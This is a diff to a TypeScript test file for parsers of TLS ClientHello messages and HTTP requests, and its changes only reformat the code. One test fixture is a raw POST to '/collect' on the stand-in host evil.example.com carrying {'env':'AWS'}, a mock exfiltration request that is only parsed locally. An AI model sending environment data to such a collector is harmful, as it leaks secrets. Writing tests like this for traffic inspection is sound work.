@@ -14,8 +14,14 @@ function clientHello(sni: string, alpn: string[]): Buffer {
   const versionsExt = ext(43, Buffer.from([4, 0x03, 0x04, 0x03, 0x03]));
   const extensions = Buffer.concat([sniExt, alpnExt, versionsExt]);
   const body = Buffer.concat([
-    u16(0x0303), Buffer.alloc(32, 7), Buffer.from([0]), u16(2), u16(0x1301), Buffer.from([1, 0]),
-    u16(extensions.length), extensions,
+    u16(0x0303),
+    Buffer.alloc(32, 7),
+    Buffer.from([0]),
+    u16(2),
+    u16(0x1301),
+    Buffer.from([1, 0]),
+    u16(extensions.length),
+    extensions,
   ]);
   const handshake = Buffer.concat([Buffer.from([1, 0, body.length >> 8, body.length & 0xff]), body]);
   return Buffer.concat([Buffer.from([0x16, 0x03, 0x01]), u16(handshake.length), handshake]);
@@ -39,12 +45,19 @@ describe('parseClientHello', () => {
 });
 
 describe('parseHttpRequest', () => {
-  const post = Buffer.from('POST /collect?id=7 HTTP/1.1\r\nHost: evil.example.com\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{"env":"AWS"}');
+  const post = Buffer.from(
+    'POST /collect?id=7 HTTP/1.1\r\nHost: evil.example.com\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{"env":"AWS"}',
+  );
   it('parses method, target, host, headers and body', () => {
     expect(looksLikeHttp(post)).toBe(true);
     expect(parseHttpRequest(post)).toMatchObject({
-      method: 'POST', target: '/collect?id=7', version: 'HTTP/1.1', host: 'evil.example.com',
-      body: '{"env":"AWS"}', bodyBytes: 13, complete: true,
+      method: 'POST',
+      target: '/collect?id=7',
+      version: 'HTTP/1.1',
+      host: 'evil.example.com',
+      body: '{"env":"AWS"}',
+      bodyBytes: 13,
+      complete: true,
     });
   });
   it('says a request is incomplete until the declared body is there', () => {
